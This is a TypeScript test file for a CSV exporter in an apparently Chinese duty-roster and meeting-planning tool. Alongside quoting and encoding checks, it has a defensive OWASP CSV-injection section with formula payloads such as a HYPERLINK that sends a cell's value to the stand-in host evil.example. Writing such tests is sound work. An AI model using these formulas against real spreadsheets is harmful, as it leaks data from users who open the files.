import { describe, expect, it } from "vitest";
import { buildSamplePlan, loadSampleSpec } from "./test-fixtures/sample-plan.js";
import { exportCsv, formatCsv, quoteCsvField } from "./csv.js";

/** A small RFC 4180 reader, to check the quoting round-trips. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(field), (field = "");
    else if (ch === "\r" && text[i + 1] === "\n") row.push(field), rows.push(row), (row = []), (field = ""), i++;
    else field += ch;
  }
  return rows;
}

describe("exportCsv", () => {
  const plan = buildSamplePlan();
  const spec = loadSampleSpec();
  const files = exportCsv(plan, spec);

  it("writes every table, UTF-8 with BOM and CRLF", () => {
    expect(files.map((f) => f.name)).toEqual(["roster.csv", "meetings.csv", "agendas.csv", "recurring-duties.csv", "unplaced.csv", "violations.csv"]);
    for (const f of files) {
      expect(f.content.startsWith("\uFEFF")).toBe(true);
      expect(Buffer.from(f.content, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    }
    const roster = parseCsv(files[0]!.content.slice(1));
    expect(roster[0]).toEqual(["日期", "星期", "节假日", "带班领导", "值班人员"]);
    const leader = plan.roster.find((a) => a.date === "2026-02-17" && a.post === "leader")!.person;
    const leaderName = spec.people.find((p) => p.id === leader)!.name;
    expect(roster.find((r) => r[0] === "2026-02-17")!.slice(0, 4)).toEqual(["2026-02-17", "星期二", "春节", leaderName]);
    expect(roster).toHaveLength(91);
  });

  it("quotes fields with commas, quotes and line breaks", () => {
    expect(quoteCsvField('a,b')).toBe('"a,b"');
    expect(quoteCsvField('说"是"')).toBe('"说""是"""');
    expect(quoteCsvField("一\n二")).toBe('"一\n二"');
    expect(quoteCsvField("普通")).toBe("普通");
    const text = formatCsv({ headers: ["x", "y"], rows: [['a,"b"', "c\r\nd"]] });
    expect(parseCsv(text.slice(1))).toEqual([["x", "y"], ['a,"b"', "c\r\nd"]]);
    // Citation texts contain commas (ASCII ',' in the seed), so they must come back whole.
    const violations = parseCsv(files.find((f) => f.name === "violations.csv")!.content.slice(1));
    const cap = violations.find((row) => row[1] === "钟山区 第四十五条")!;
    expect(cap[4]).toContain("原则上每次不超过15个;议题收集满15个后,确需增加议题的");
  });

  it("can pick tables", () => {
    expect(exportCsv(buildSamplePlan(), loadSampleSpec(), { tables: ["meetings"] }).map((f) => f.name)).toEqual(["meetings.csv"]);
  });
});

describe("CSV injection (OWASP \"CSV Injection\", issue 13)", () => {
  it("writes a field that a spreadsheet would read as a formula as quoted text with a leading single quote", () => {
    for (const value of ['=HYPERLINK("http://evil.example","点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"]) {
      const field = quoteCsvField(value);
      expect([value, field]).toEqual([value, `"'${value.replaceAll('"', '""')}"`]);
      expect(parseCsv(`${field}\r\n`)).toEqual([[`'${value}`]]);
    }
    // Only the first character matters: the same signs inside a field are plain text.
    expect(quoteCsvField("a=b")).toBe("a=b");
    expect(quoteCsvField("2026-01-15")).toBe("2026-01-15");
    expect(quoteCsvField("09:00–12:00")).toBe("09:00–12:00");
  });

  it("neutralises crafted names, titles and rooms in every table", () => {
    const crafted = loadSampleSpec();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"详情")';
    for (const p of crafted.people) p.name = `${evil}${p.id}`;
    for (const r of crafted.rooms) r.name = `+${r.name}`;
    for (const i of crafted.agendaItems) i.title = `@${i.title}`;
    crafted.organization.name = "-钟山区";
    const files = exportCsv(buildSamplePlan(), crafted);
    let cells = 0;
    for (const f of files) {
      for (const row of parseCsv(f.content.slice(1))) {
        for (const cell of row) {
          expect([f.name, cell]).not.toEqual([f.name, expect.stringMatching(/^[=+\-@\t\r]/)]);
          if (/^'[=+\-@]/.test(cell)) cells++;
        }
      }
    }
    expect(cells).toBeGreaterThan(50);
  });
});
